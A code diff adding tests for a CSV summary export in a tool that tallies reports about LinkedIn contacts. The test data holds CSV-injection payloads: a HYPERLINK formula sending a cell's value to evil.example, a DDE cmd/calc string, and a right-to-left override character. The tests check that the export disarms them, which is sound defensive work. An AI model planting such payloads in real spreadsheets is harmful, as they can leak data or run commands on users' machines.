@@ -16,6 +16,7 @@ import {
   renderSummary,
   REPORT_FILE_MAX_BYTES,
   reportedEntities,
+  summaryCsv,
   summaryJson,
   tallyReports,
   type EntityOptions,
@@ -261,6 +262,61 @@ describe('what a summary shows', () => {
     expect(entry.entity.name).toBe('Amy gnp.exe [31mChen \\u{41}');
   });
 
+  it('writes a CSV a spreadsheet opens as text: every cell quoted, formulas disarmed, hidden characters escaped', () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    const text = [
+      report({ name: 'Test Persona', profileUrl: TEST_PERSONA }, PAID, '2026-11-02T09:00:00Z'),
+      report({ name: formula, headline: '@SUM(1+1)', profileUrl: RECRUITER }, PAID, '2026-11-03T09:00:00Z', 'inmail', 'First line, "quoted"\nsecond line'),
+      report({ name: '\uff1dcmd|\' /C calc\'!A0', profileUrl: RECRUITER }, TRIP, '2026-11-04T09:00:00Z', 'message', '-2+3 \u202eevil'),
+    ].join('\n');
+    const listed = baselineListed();
+    const tally = tallyReports(readReports([{ name: 'x', text }]), listed);
+    const csv = summaryCsv(tally);
+    expect(csv.endsWith('\r\n')).toBe(true);
+    expect(csv).not.toMatch(/\u202e/);
+
+    // Read back as RFC 4180 says: a quoted cell may hold commas, doubled quotes and line breaks.
+    const rows: string[][] = [[]];
+    let cell = '';
+    const endCell = () => {
+      rows.at(-1)!.push(cell);
+      cell = '';
+    };
+    for (let i = 0, quoted = false; i < csv.length; i++) {
+      const c = csv[i]!;
+      if (quoted && c === '"' && csv[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = !quoted;
+      else if (quoted) cell += c;
+      else if (c === ',') endCell();
+      else if (c === '\r' && csv[i + 1] === '\n') {
+        endCell();
+        rows.push([]);
+        i++;
+      } else cell += c;
+    }
+    rows.pop();
+    const [header, ...people] = rows;
+    expect(people).toHaveLength(2);
+    for (const row of people) expect(row).toHaveLength(header!.length);
+    const at = (row: string[], column: string) => row[header!.indexOf(column)];
+    const amy = people.find((row) => at(row, 'profile_url') === RECRUITER)!;
+    // A cell that would start a formula starts with an apostrophe; the text is otherwise as sent.
+    expect([at(amy, 'name'), at(amy, 'other_names')].sort()).toEqual([`'${formula}`, "'\uff1dcmd|' /C calc'!A0"].sort());
+    expect(at(amy, 'headline')).toBe("'@SUM(1+1)");
+    // One note a line; a note's own line break, like any hidden character, shown as an escape.
+    expect(at(amy, 'notes')).toBe("'-2+3 \\u{202e}evil\nFirst line, \"quoted\"\\u{a}second line");
+    expect(at(amy, 'surfaces')).toBe(tally.people.find((p) => p.profileUrl === RECRUITER)!.surfaces.map(([s, n]) => `${s}: ${n}`).join('\n'));
+    expect(at(amy, 'surfaces')!.split('\n').sort()).toEqual(['inmail: 1', 'message: 1']);
+    expect(at(amy, 'reports')).toBe('2');
+    expect(at(amy, 'report_keys')!.split('\n')).toEqual(tally.people.find((p) => p.profileUrl === RECRUITER)!.keys);
+    expect(at(amy, 'listed_in_pack')).toBe('');
+    const persona = people.find((row) => at(row, 'profile_url') === TEST_PERSONA)!;
+    expect([at(persona, 'listed_in_pack'), at(persona, 'listed_entity')]).toEqual([`approach-guard-baseline ${baselinePack().version}`, 'approach-guard.test-persona']);
+    expect(at(persona, 'check_id_by_hand')).toBe('no');
+  });
+
   it('says a profile id with letters other than plain Latin ones may imitate another, and does not list it', () => {
     // A Cyrillic "а": the extension folds it to "a", so listed it would flag the real amy-chen.
     const text = report({ name: 'Amy Chen', profileUrl: 'https://www.linkedin.com/in/%D0%B0my-chen/' }, PAID, '2026-11-02T09:00:00Z');
@@ -437,6 +493,10 @@ describe('npm run reports', () => {
     const ok = run(['summary', '--json', join(dir, 'a.json'), '-'], report({ name: 'Amy Chen', profileUrl: RECRUITER }, TRIP, '2026-11-03T09:00:00Z'));
     expect(ok.status, ok.stderr).toBe(0);
     expect(JSON.parse(ok.stdout)).toMatchObject({ reports: 2, people: [{ profileUrl: RECRUITER, reports: 2, names: ['Amy Chen'], listed: null }] });
+    // The same as CSV: a header and a row, each ended by CRLF (a cell's list goes one item a line), nothing after.
+    const csv = run(['summary', '--csv', join(dir, 'a.json')]);
+    expect(csv.status, csv.stderr).toBe(0);
+    expect(csv.stdout).toMatch(/^reports,highest_level,top_score,name,[a-z_,]+\r\n1,"high",\d+,"Amy Chen",[^\r]*\r\n$/);
 
     // A file name can hold control characters too.
     const odd = join(dir, 'x\u001b[2J.json');
@@ -510,6 +570,7 @@ describe('npm run reports', () => {
       [['entities', '--skip', join(dir, 'skip.txt'), dir], /skip\.txt:1: not a LinkedIn profile address/],
       [['summary', '--since', '2026-02-30', dir], /--since "2026-02-30" is not a date/],
       [['summary', '--verbose', dir], /unknown option "--verbose"/],
+      [['summary', '--json', '--csv', dir], /--json and --csv cannot be given together/],
       [['summary'], /needs report files or directories/],
       [['tally', dir], /unknown reports command "tally"/],
       [['summary', join(dir, 'missing')], /missing: no such file or directory/],
